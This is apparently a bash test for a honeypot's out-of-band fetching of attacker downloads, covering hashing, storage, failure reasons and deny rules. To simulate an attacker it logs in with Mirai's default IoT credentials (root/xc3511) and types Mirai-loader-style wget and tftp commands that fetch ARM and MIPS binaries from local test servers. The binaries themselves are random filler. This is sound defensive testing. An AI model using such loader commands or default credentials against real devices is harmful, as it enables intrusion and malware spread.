#!/usr/bin/env bash
# Checks that with [capture] fetch = yes mamori-trap fetches, out of band, what a session's wget
# and tftp asked for from an HTTP server and a TFTP server of this test on loopback: the
# cowrie.session.file_download events carry shasum = the SHA-256 of the served bytes and
# downloads/<sha256> holds them, while the session still sees the device's failure; a 404 gives
# cowrie.session.file_download.failed with the status, a file over fetch_max is refused as too
# big, a fetch that ends after its session closed still reports under that session's id, https
# is not fetched, and fetch_deny's default (loopback among it) makes no connection; with the
# default configuration (fetch = no) the same commands make no connection at all.
set -euo pipefail
. "$(dirname "$0")/lib/trap.sh"

# ---- the servers: HTTP (threads, a log of requests) and TFTP (RRQ, octet) ----
mkdir -p "$tmp/www/bins"
# An ARM ELF header and random bytes: what a Mirai loader drops.
"$py" - "$tmp/www" <<'EOF'
import os, struct, sys
d = sys.argv[1]
rnd = os.urandom
hdr = b"\x7fELF\x01\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 40, 1)
open(os.path.join(d, "bins", "x.arm"), "wb").write(hdr + rnd(20000 - len(hdr)))
mips = b"\x7fELF\x01\x02\x01\x00" + b"\x00" * 8 + struct.pack(">HHI", 2, 8, 1)
open(os.path.join(d, "y.mips"), "wb").write(mips + rnd(3 * 512 + 93 - len(mips)))
open(os.path.join(d, "bins", "big.bin"), "wb").write(rnd(100 * 1024))
open(os.path.join(d, "bins", "slow.arm"), "wb").write(b"#!/bin/sh\necho slow\n" + rnd(3000))
EOF
hp=$(pick_port)
"$py" - "$hp" "$tmp/www" "$tmp/http.log" >>"$tmp/http.err" 2>&1 <<'EOF' &
import functools, http.server, sys, time
port, root, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
class H(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        open(log, "a").write("GET %s %s\n" % (self.path, self.headers.get("User-Agent")))
        if self.path.startswith("/bins/slow"):
            time.sleep(2)
        return super().do_GET()
    def log_message(self, *a):
        pass
srv = http.server.ThreadingHTTPServer(("127.0.0.1", port),
                                      functools.partial(H, directory=root))
open(log, "a").write("listening\n")
srv.serve_forever()
EOF
pids+=("$!")
tp=$(pick_port)
"$py" - "$tp" "$tmp/www" "$tmp/tftp.log" >>"$tmp/tftp.err" 2>&1 <<'EOF' &
# A TFTP server of RFC 1350's read requests in octet mode only: each
# transfer from a new port (its transfer id), each block sent again until
# its ACK comes (at most 5 times).
import os, socket, struct, sys, threading
port, root, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
def note(s):
    with open(log, "a") as f:
        f.write(s + "\n")
def serve(name, peer):
    t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    t.bind(("127.0.0.1", 0))
    t.settimeout(1)
    path = os.path.join(root, os.path.basename(name))
    if not os.path.isfile(path):
        t.sendto(struct.pack("!HH", 5, 1) + b"File not found\0", peer)
        return
    data = open(path, "rb").read()
    block = 1
    while True:
        chunk = data[(block - 1) * 512:block * 512]
        for _ in range(5):
            t.sendto(struct.pack("!HH", 3, block & 0xffff) + chunk, peer)
            try:
                ack, a = t.recvfrom(1024)
            except socket.timeout:
                continue
            if a == peer and ack[:2] == b"\0\4" and struct.unpack("!H", ack[2:4])[0] == block & 0xffff:
                break
        else:
            note("gave up at block %d" % block)
            return
        if len(chunk) < 512:
            note("sent %s %d" % (name, len(data)))
            return
        block += 1
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("127.0.0.1", port))
note("listening")
while True:
    pkt, peer = u.recvfrom(2048)
    if pkt[:2] != b"\0\1":
        continue
    parts = pkt[2:].split(b"\0")
    name, mode = parts[0].decode("latin-1"), parts[1].decode("latin-1").lower()
    note("RRQ %s %s" % (name, mode))
    if mode != "octet":
        u.sendto(struct.pack("!HH", 5, 0) + b"octet only\0", peer)
        continue
    threading.Thread(target=serve, args=(name, peer), daemon=True).start()
EOF
pids+=("$!")
# A server that takes connections and never answers.
sp=$(pick_port)
"$py" - "$sp" "$tmp/silent.log" >>"$tmp/silent.err" 2>&1 <<'EOF' &
import socket, sys
t = socket.socket()
t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("127.0.0.1", int(sys.argv[1])))
t.listen(16)
open(sys.argv[2], "a").write("listening\n")
held = []
while True:
    held.append(t.accept()[0])
EOF
pids+=("$!")
wait_for file_has listening "$tmp/silent.log" || fail "the silent server did not start"
wait_for file_has listening "$tmp/http.log" || fail "the HTTP server did not start: $(cat "$tmp/http.err")"
wait_for file_has listening "$tmp/tftp.log" || fail "the TFTP server did not start: $(cat "$tmp/tftp.err")"
requests() { grep -c -E '^(GET|RRQ) ' "$tmp/http.log" "$tmp/tftp.log" | awk -F: '{s += $2} END {print s + 0}'; }
sha_of() { sha256sum "$1" | cut -d' ' -f1; }

# ---- fetch = yes, nothing denied: the files arrive ----
trap_start f router-mips login.delay_ms=0 capture.fetch=yes capture.fetch_deny=none \
  capture.fetch_max=64K capture.fetch_timeout=4
out=$(telnet_run "$f_port" -u root -P xc3511 "cd /tmp" \
  "wget http://127.0.0.1:$hp/bins/x.arm" \
  "tftp -g -r y.mips 127.0.0.1 $tp" \
  "wget http://127.0.0.1:$hp/bins/nothing.arm" \
  "wget http://127.0.0.1:$hp/bins/big.bin" \
  "wget https://127.0.0.1:$hp/bins/x.arm" \
  "wget http://127.0.0.1:$sp/never.arm")
expect "login" "$(jq -r .login <<<"$out")" true
# The shell is the device's, whatever the fetch does.
telnet_out "$out" 1 | grep -q "can't connect to remote host (127.0.0.1): Connection refused" ||
  fail "wget's answer in the session: $(telnet_out "$out" 1)"
expect "tftp's answer in the session" "$(telnet_out "$out" 2)" "tftp: timeout"
session=$(session_of_login "$f_dir" root xc3511)
[ -n "$session" ] || fail "no session id"

x_url="http://127.0.0.1:$hp/bins/x.arm"
y_url="tftp://127.0.0.1:$tp/y.mips"
for u in "$x_url" "$y_url"; do
  wait_for events_at_least "$f_dir" ".eventid == \"cowrie.session.file_download\" and .url == \"$u\"" 1 ||
    fail "no file_download for $u: $(events_where "$f_dir" '.eventid | startswith("cowrie.session.file_download")'); log: $(tail -n 20 "$tmp/f.log")"
done
check_file() { # URL SERVED-FILE DESTFILE ELF-MACHINE
  local ev sha
  ev=$(event_one "$f_dir" ".eventid == \"cowrie.session.file_download\" and .url == \"$1\"")
  sha=$(sha_of "$2")
  expect "$1 shasum" "$(jq -r .shasum <<<"$ev")" "$sha"
  expect "$1 outfile" "$(jq -r .outfile <<<"$ev")" "downloads/$sha"
  cmp -s "$f_dir/downloads/$sha" "$2" || fail "$f_dir/downloads/$sha differs from the served $2"
  expect "$1 size" "$(jq -r .size <<<"$ev")" "$(stat -c %s "$2")"
  expect "$1 session" "$(jq -r .session <<<"$ev")" "$session"
  expect "$1 destfile" "$(jq -r .destfile <<<"$ev")" "$3"
  expect "$1 kind" "$(jq -r .kind <<<"$ev")" elf
  expect "$1 elf_machine" "$(jq -r .elf_machine <<<"$ev")" "$4"
  expect "$1 stored" "$(jq -r .stored <<<"$ev")" true
  expect "$1 fetched" "$(jq -r .fetched <<<"$ev")" true
  expect "$1 address" "$(jq -r .address <<<"$ev")" 127.0.0.1
  jq -e '.tlsh | startswith("T1")' <<<"$ev" >/dev/null || fail "$1: no tlsh: $ev"
  jq -e '.attack | index("T1105")' <<<"$ev" >/dev/null || fail "$1: no T1105: $ev"
  jq -e '.message | startswith("Downloaded URL")' <<<"$ev" >/dev/null || fail "$1: message: $ev"
}
check_file "$x_url" "$tmp/www/bins/x.arm" /tmp/x.arm ARM
check_file "$y_url" "$tmp/www/y.mips" /tmp/y.mips MIPS
grep -q "^GET /bins/x.arm Wget$" "$tmp/http.log" || fail "the request's User-Agent: $(cat "$tmp/http.log")"
echo "ok: wget's http:// and tftp's file were fetched, hashed and stored byte for byte"

wait_for events_at_least "$f_dir" '.eventid == "cowrie.session.file_download.failed"' 4 ||
  fail "the failures were not all reported: $(events_where "$f_dir" '.eventid == "cowrie.session.file_download.failed"')"
ev=$(event_one "$f_dir" ".eventid == \"cowrie.session.file_download.failed\" and .url == \"http://127.0.0.1:$hp/bins/nothing.arm\"")
expect "404 reason" "$(jq -r .reason <<<"$ev")" "http status 404"
expect "404 http_status" "$(jq -r .http_status <<<"$ev")" 404
ev=$(event_one "$f_dir" ".eventid == \"cowrie.session.file_download.failed\" and .url == \"http://127.0.0.1:$hp/bins/big.bin\"")
expect "over fetch_max" "$(jq -r .reason <<<"$ev")" "too big"
[ ! -e "$f_dir/downloads/$(sha_of "$tmp/www/bins/big.bin")" ] || fail "the big file was stored"
ev=$(event_one "$f_dir" ".eventid == \"cowrie.session.file_download.failed\" and .url == \"https://127.0.0.1:$hp/bins/x.arm\"")
expect "https" "$(jq -r .reason <<<"$ev")" "https is not fetched"
expect "https fetched" "$(jq -r .fetched <<<"$ev")" false
grep -q "^GET /bins/x.arm" "$tmp/http.log" || fail "no request for x.arm"
expect "HTTP requests (x.arm, nothing.arm, big.bin; https none)" \
  "$(grep -c '^GET ' "$tmp/http.log")" 3
ev=$(event_one "$f_dir" ".eventid == \"cowrie.session.file_download.failed\" and .url == \"http://127.0.0.1:$sp/never.arm\"")
expect "a server that never answers" "$(jq -r .reason <<<"$ev")" timeout
echo "ok: a 404 is reported with its status, a file over fetch_max as too big, https as not fetched, a silent server as a timeout"

# ---- a fetch that ends after its session ----
out=$(telnet_run "$f_port" -u admin -P admin "wget http://127.0.0.1:$hp/bins/slow.arm")
s2=$(session_of_login "$f_dir" admin admin)
[ -n "$s2" ] || fail "no session id for admin: $out"
wait_for events_at_least "$f_dir" ".eventid == \"cowrie.session.closed\" and .session == \"$s2\"" 1 ||
  fail "the second session did not close"
ev=$(events_where "$f_dir" ".session == \"$s2\" and .eventid == \"cowrie.session.file_download\"")
[ -z "$ev" ] || fail "the slow file came before the session closed: $ev"
wait_for events_at_least "$f_dir" ".eventid == \"cowrie.session.file_download\" and .session == \"$s2\"" 1 ||
  fail "the slow fetch was not reported after its session closed"
ev=$(event_one "$f_dir" ".eventid == \"cowrie.session.file_download\" and .session == \"$s2\"")
expect "slow shasum" "$(jq -r .shasum <<<"$ev")" "$(sha_of "$tmp/www/bins/slow.arm")"
expect "slow kind" "$(jq -r .kind <<<"$ev")" script
jq -es --arg s "$s2" '[.[] | select(.session == $s) | .eventid] |
  (indices("cowrie.session.closed")[0] < indices("cowrie.session.file_download")[0])' \
  "$(trap_events "$f_dir")" >/dev/null ||
  fail "the slow download's event is not after its session's close: $(events_where "$f_dir" ".session == \"$s2\"")"
echo "ok: a fetch that ended after its session closed was reported under that session's id"

# A fetch still running when the daemon stops ends with it, reported.
out=$(telnet_run "$f_port" -u root -P xc3511 "wget http://127.0.0.1:$sp/held.arm")
trap_stop f
ev=$(event_one "$f_dir" ".eventid == \"cowrie.session.file_download.failed\" and .url == \"http://127.0.0.1:$sp/held.arm\"")
expect "a fetch running at the stop" "$(jq -r .reason <<<"$ev")" shutdown
echo "ok: a fetch running when the daemon stopped was reported (reason shutdown)"

# ---- fetch = yes with the default fetch_deny: loopback is not reached ----
before=$(requests)
trap_start d router-mips login.delay_ms=0 capture.fetch=yes
out=$(telnet_run "$d_port" -u root -P xc3511 "cd /tmp" "wget http://127.0.0.1:$hp/bins/x.arm" \
  "tftp -g -r y.mips 127.0.0.1 $tp")
expect "login (deny)" "$(jq -r .login <<<"$out")" true
wait_for events_at_least "$d_dir" '.eventid == "cowrie.session.file_download.failed"' 2 ||
  fail "the denied fetches were not reported: $(events_where "$d_dir" '.eventid | startswith("cowrie.session.file_download")')"
for u in "$x_url" "$y_url"; do
  ev=$(event_one "$d_dir" ".eventid == \"cowrie.session.file_download.failed\" and .url == \"$u\"")
  expect "$u denied" "$(jq -r .reason <<<"$ev")" "address denied by fetch_deny"
  expect "$u denied address" "$(jq -r .address <<<"$ev")" 127.0.0.1
done
sleep 1
expect "requests to the servers with the default fetch_deny" "$(requests)" "$before"
trap_stop d
echo "ok: the default fetch_deny keeps fetches off loopback"

# ---- the default configuration: nothing is fetched ----
trap_start n router-mips login.delay_ms=0
out=$(telnet_run "$n_port" -u root -P xc3511 "cd /tmp" "wget http://127.0.0.1:$hp/bins/x.arm" \
  "tftp -g -r y.mips 127.0.0.1 $tp")
expect "login (default)" "$(jq -r .login <<<"$out")" true
wait_for events_at_least "$n_dir" '.eventid == "cowrie.session.file_download.failed"' 2 ||
  fail "the downloads were not reported with fetch = no"
[ "$(events_count "$n_dir" '.eventid == "cowrie.session.file_download.failed" and has("reason")')" = 0 ] ||
  fail "fetch = no gave a reason of fetching: $(events_where "$n_dir" '.eventid == "cowrie.session.file_download.failed"')"
sleep 1
expect "requests to the servers with fetch = no" "$(requests)" "$before"
trap_stop n
echo "ok: with the default configuration nothing is fetched"
echo "trap_fetch: all checks passed"
